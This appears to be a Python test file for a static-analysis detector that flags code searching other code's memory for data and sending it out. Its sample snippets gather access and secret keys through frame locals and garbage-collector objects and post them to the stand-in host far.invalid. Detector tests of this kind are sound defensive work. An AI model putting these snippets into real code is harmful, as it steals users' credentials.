"""What is found in the memory of other code, and sent."""

import pytest

from tests.analysis.languages.python.reading import facts

POST = "requests.post('https://far.invalid/r', json=found)"
PAIR = "found.append([item.access_key, item.secret_key])"


def searched(source: str) -> list[object]:
    found = facts(f"import gc, inspect, sys, requests\nfound = []\n{source}\n{POST}\n")
    return [use.argument for use in found.uses if use.api == "memory-searched"]


@pytest.mark.parametrize(
    "source",
    [
        "found = dict(sys._getframe(1).f_locals)",
        "frame = inspect.currentframe().f_back\nfor name, value in frame.f_locals.items(): found.append(value)",
        f"for item in gc.get_objects(): {PAIR}",
        f"for item in gc.get_referrers(sys): {PAIR}",
    ],
)
def test_it_is_told_with_its_address(source: str) -> None:
    assert ["https://far.invalid/r"] == searched(source)


@pytest.mark.parametrize(
    "source",
    [
        "found = [type(item).__name__ for item in gc.get_objects()]",
        "for item in open('x'): found.append(item)",
        "try: f()\nexcept Exception as e: found = e.__traceback__.tb_frame.f_locals",
    ],
    ids=["how many there are", "a file", "what failed"],
)
def test_reports_are_not(source: str) -> None:
    assert [] == searched(source)
